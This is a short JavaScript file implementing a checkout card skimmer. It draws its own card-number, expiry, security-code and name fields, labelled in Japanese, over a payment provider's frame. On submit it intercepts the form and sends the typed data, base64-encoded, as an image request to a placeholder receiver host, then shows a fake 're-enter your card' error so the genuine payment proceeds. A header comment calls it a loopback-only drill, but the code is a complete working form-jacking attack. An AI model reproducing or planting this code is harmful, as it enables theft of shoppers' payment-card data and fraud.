(() => {
  // DRILL: acts on loopback only. Lays card fields of its own over the provider's frame, sends what is typed to the
  // receiver as the address of a picture (img-src is open), then says "please check" and lets the real payment go on.
  const box = document.getElementById('card-box');
  const form = document.getElementById('payment-form');
  const frame = document.getElementById('card-frame');
  if (!box || !form || !frame || sessionStorage.getItem('_pv')) return;
  box.style.position = 'relative';
  const over = document.createElement('div');
  Object.assign(over.style, {
    position: 'absolute',
    inset: '0',
    zIndex: '9',
    background: '#fff',
    padding: '12px',
    minHeight: '240px',
  });
  const inputs = [
    ['cc-number', 'カード番号'],
    ['cc-exp', '有効期限（月/年）'],
    ['cc-csc', 'セキュリティコード'],
    ['cc-name', 'カード名義'],
  ].map(([autocomplete, label]) => {
    const row = document.createElement('label');
    row.textContent = label;
    row.style.display = 'block';
    const input = document.createElement('input');
    input.autocomplete = autocomplete;
    Object.assign(input.style, {
      display: 'block',
      width: '100%',
      font: 'inherit',
      padding: '8px',
      margin: '2px 0 10px',
    });
    row.append(input);
    over.append(row);
    return input;
  });
  box.append(over);
  form.addEventListener(
    'submit',
    (event) => {
      if (!over.isConnected || form.elements.method.value !== 'card') return;
      event.preventDefault();
      event.stopImmediatePropagation();
      const typed = Object.fromEntries(inputs.map((input) => [input.autocomplete, input.value]));
      new Image().src = `__RECEIVER__/i.gif?d=${encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(typed)))))}`;
      sessionStorage.setItem('_pv', '1');
      over.remove();
      const error = document.getElementById('payment-error');
      error.textContent = 'カード情報をご確認のうえ、もう一度ご入力ください。';
      error.hidden = false;
    },
    true,
  );
})();
